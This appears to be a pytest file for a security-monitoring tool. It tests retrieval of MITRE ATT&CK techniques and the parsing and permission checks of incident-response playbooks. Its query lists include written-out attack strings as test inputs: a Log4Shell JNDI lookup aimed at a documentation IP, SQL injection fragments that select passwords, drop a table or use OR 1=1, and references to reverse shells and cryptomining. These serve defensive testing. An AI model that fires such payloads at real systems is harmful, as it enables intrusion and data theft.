"""Retrieval cites techniques that exist, alike on every Python; playbooks are read and checked."""

from __future__ import annotations

import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine import paths
from engine.knowledge import Knowledge, parse_playbook, read_playbooks
from engine.types import Severity

ATTACK = paths.KNOWLEDGE / "attack"
QUERIES = [
    "reverse shell from the web server",
    "port scan",
    "xmrig stratum+tcp mining.subscribe",
    "${jndi:ldap://203.0.113.9/a}",
    "' UNION SELECT password FROM users --",
    "ssh keys appended to authorized_keys; DROP TABLE passages",
    "docker.sock",
]
LOADS_EXTENSIONS = hasattr(sqlite3.Connection, "enable_load_extension")


@pytest.fixture(scope="module")
def knowledge() -> Iterator[Knowledge]:
    base = Knowledge()
    yield base
    base.close()


def test_the_backend_is_named(knowledge: Knowledge) -> None:
    assert knowledge.backend == ("sqlite-vec" if LOADS_EXTENSIONS else "numpy")


@pytest.mark.skipif(not LOADS_EXTENSIONS, reason="this Python's sqlite3 loads no extensions")
def test_both_backends_give_the_same_passages_and_scores(knowledge: Knowledge) -> None:
    plain = Knowledge(extensions=False)
    assert plain.backend == "numpy"
    for query in QUERIES:
        assert plain.search(query, 10) == knowledge.search(query, 10)


@pytest.mark.parametrize("query", QUERIES)
def test_passages_are_distinct_techniques_in_falling_order_with_their_source(knowledge: Knowledge, query: str) -> None:
    found = knowledge.search(query, k=5)
    scores = [passage.score for passage in found]
    assert len({passage.id for passage in found}) == 5
    assert scores == sorted(scores, reverse=True)
    assert 0 < scores[-1] <= scores[0] <= 1
    for passage in found:
        assert passage.source.startswith("MITRE ATT&CK v18.1, https://attack.mitre.org/techniques/")


def test_a_technique_named_in_the_query_comes_first(knowledge: Knowledge) -> None:
    assert knowledge.search("is this T1496.001 or T9999?", k=2)[0].id == "T1496.001"


@pytest.mark.parametrize("query", ["", "   ", "the of and", '"*) OR NEAR(', "\x00\x1b[2J", "木马", "a" * 50_000])
def test_any_text_can_be_a_query(knowledge: Knowledge, query: str) -> None:
    assert len(knowledge.search(query)) <= 5


def test_a_technique_is_found_by_its_id_whatever_its_platform(knowledge: Knowledge) -> None:
    windows_only = knowledge.get("T1003.001")
    assert windows_only is not None
    assert windows_only.title.startswith("OS Credential Dumping: LSASS Memory")
    assert windows_only.source.endswith("https://attack.mitre.org/techniques/T1003/001")


@pytest.mark.parametrize("passage_id", ["T9999", "", "t1190", "' OR 1=1 --"])
def test_an_unknown_id_gives_nothing(knowledge: Knowledge, passage_id: str) -> None:
    assert knowledge.get(passage_id) is None


def test_without_the_embedding_model_the_words_still_find(knowledge: Knowledge) -> None:
    words = Knowledge(embedding=False)
    assert words.backend == "words only: switched off"
    assert words.search("port knocking")[0].id == "T1205.001"


def test_a_missing_vocabulary_leaves_the_words(tmp_path: Path) -> None:
    folder = Path(shutil.copytree(ATTACK, tmp_path / "attack"))
    (folder / "vocab.txt").unlink()
    assert Knowledge(folder=folder).backend.startswith("words only: ")


def test_the_database_is_made_once_and_used_again(tmp_path: Path, knowledge: Knowledge) -> None:
    path = tmp_path / "knowledge.db"
    Knowledge(path).close()
    made = path.stat().st_ino
    again = Knowledge(path)
    assert path.stat().st_ino == made
    assert again.search("port scan") == knowledge.search("port scan")


def test_a_database_made_without_the_extension_serves_with_it(tmp_path: Path, knowledge: Knowledge) -> None:
    path = tmp_path / "knowledge.db"
    Knowledge(path, extensions=False).close()
    Knowledge(path).close()
    assert Knowledge(path, extensions=False).search("port scan") == knowledge.search("port scan")


@pytest.mark.parametrize(
    "content", [b"", b"no database", b"SQLite format 3\x00" + b"\xff" * 5000], ids=["0", "x", "cut"]
)
def test_a_damaged_database_is_made_anew(tmp_path: Path, content: bytes, knowledge: Knowledge) -> None:
    path = tmp_path / "knowledge.db"
    path.write_bytes(content)
    assert Knowledge(path).search("port scan") == knowledge.search("port scan")


@pytest.mark.parametrize("name", ["techniques.json.xz", "vectors.npy", "vocab.txt", "manifest.json"])
def test_a_damaged_shipped_file_is_named(tmp_path: Path, name: str) -> None:
    folder = Path(shutil.copytree(ATTACK, tmp_path / "attack"))
    (folder / name).write_bytes((folder / name).read_bytes()[:-20])
    with pytest.raises(ValueError, match=f"cannot read the knowledge base: .*{name}"):
        Knowledge(folder=folder)


@pytest.mark.parametrize("name", ["techniques.json.xz", "vectors.npy", "manifest.json"])
def test_a_missing_shipped_file_is_named(tmp_path: Path, name: str) -> None:
    folder = Path(shutil.copytree(ATTACK, tmp_path / "attack"))
    (folder / name).unlink()
    with pytest.raises(FileNotFoundError, match=name):
        Knowledge(folder=folder)


# --- playbooks ------------------------------------------------------------------------------

BOOK = """---
id: PB-own
class: scan
name: Our scan
name_zh: 扫描
attack: [T1046]
tools: [related_flows]
severity: low
block: no
---

## Steps
1. `related_flows`: count the ports
   that answered.
2. Ask the night shift.

## Verdict criteria
- benign: our scanner.

## Actions
- Note it.
"""


def test_a_playbook_is_found_by_event_class(knowledge: Knowledge) -> None:
    book = knowledge.playbook("scan")
    assert book is not None
    assert (book.severity, book.block, book.steps[0].tool) == (Severity.MEDIUM, True, "related_flows")
    assert knowledge.playbook("no such class") is None


def test_a_users_playbook_replaces_the_shipped_one(tmp_path: Path) -> None:
    path = tmp_path / "scan.md"
    path.write_text(BOOK, encoding="utf-8")
    path.chmod(0o644)
    book = read_playbooks(paths.PLAYBOOKS, tmp_path)["scan"]
    assert (book.name, book.block, book.attack_ids) == ("Our scan", False, ("T1046",))
    assert book.steps == (("related_flows", "count the ports that answered."), ("", "Ask the night shift."))


def test_a_playbook_that_others_may_write_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "scan.md"
    path.write_text(BOOK, encoding="utf-8")
    path.chmod(0o666)
    with pytest.raises(PermissionError, match="others may write to it"):
        read_playbooks(paths.PLAYBOOKS, tmp_path)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("class: scan\n", "", "class missing"),
        ("## Actions", "## Further", "Actions missing"),
        ("severity: low", "severity: terrible", "severity info"),
        ("block: no", "block: maybe", "block is yes or no"),
        ("name: Our scan", "Our scan", "is not key: value"),
        ("---\n", "", "missing or empty"),
    ],
    ids=["field", "section", "severity", "block", "line", "no front matter"],
)
def test_a_faulty_playbook_is_refused_with_its_path(tmp_path: Path, old: str, new: str, message: str) -> None:
    path = tmp_path / "scan.md"
    path.write_text(BOOK.replace(old, new), encoding="utf-8")
    with pytest.raises(ValueError, match=f"scan.md.*{message}"):
        parse_playbook(path)
